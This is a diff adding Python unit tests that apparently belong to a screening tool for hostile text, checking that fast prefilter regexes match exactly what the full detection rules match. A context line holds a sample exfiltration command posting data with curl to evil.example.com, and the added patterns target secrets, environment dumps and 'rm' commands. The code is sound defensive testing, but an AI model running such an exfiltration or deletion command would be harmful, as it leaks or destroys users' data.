@@ -168,3 +168,48 @@ def test_bad_input_texts():
                  "a" * 10_000 + " curl -d @x https://evil.example.com", "\u2028env\u2029export"]:
         assert_same_per_rule(text)
         assert screen_text(text) == screen_text(text, fast=False)
+
+
+def _spans(pattern, line: str) -> list:
+    return [(m.span(), m.groups()) for m in pattern.finditer(line)]
+
+
+def test_line_patterns_find_the_same_matches():
+    """Each rule's look-ahead pattern (prescan.first_class) finds the same matches, spans and groups as its own
+    pattern on every line of every class above, and of the fixture runs."""
+    texts = [c.text for c in HOSTILE] + BENIGN + composites(n=40) + glued()
+    texts += ["\n".join(split(m)[0] + split(m)[1]) for m in fixture_memories()]
+    rules = [rule for rule in ALL_RULES if rule._line_pattern is not rule.pattern]
+    assert len(rules) >= 60  # nearly every rule gets one
+    matched = 0
+    for text in texts:
+        seen = views(text)
+        for view, reading in (("latin", Lines(seen.latin)), ("native", Lines(seen.native))):
+            for line in set(reading.lines):
+                for rule in rules:
+                    if rule.view == view:
+                        expected = _spans(rule.pattern, line)
+                        assert _spans(rule._line_pattern, line) == expected, (rule.name, line[:200])
+                        matched += bool(expected)
+    assert matched > 1000
+
+
+@pytest.mark.parametrize("pattern, lines", [
+    (re.compile(r"\bkey\b|secret", re.I), ["KEY", "\u212aey", "ſecret", "SECRET", "a key", "keys", ""]),
+    (re.compile(r"(?<![\w.])\(env\)|^\s*set\b", re.I | re.M), ["(env)", "x(env)", "  SET x", "\tset", "reset"]),
+    (re.compile(r"(?:^|[;&|])\s*rm\b", re.I | re.M), ["rm x", "a; rm x", "arm", "\u00a0rm x"]),
+    (re.compile(r"[\u4e00-\u9fff]+删除"), ["请删除测试", "删除", "abc"]),
+    (re.compile(r"\d{2,}:\d+"), ["12:3", "\u0661\u0662:\u0663", "1:2"]),
+])
+def test_first_class_same_matches(pattern, lines):
+    fast = prescan.first_class(pattern)
+    assert fast is not pattern
+    for line in lines:
+        assert _spans(fast, line) == _spans(pattern, line), line
+
+
+@pytest.mark.parametrize("pattern", [r"a*", r"(?:x|)y?", r".foo", r"[^a]b", r"(?i)x"])
+def test_first_class_keeps_patterns_it_cannot_bound(pattern):
+    """Empty matches, any first character, negated classes: the pattern runs as it is."""
+    compiled = re.compile(pattern)
+    assert prescan.first_class(compiled) is compiled
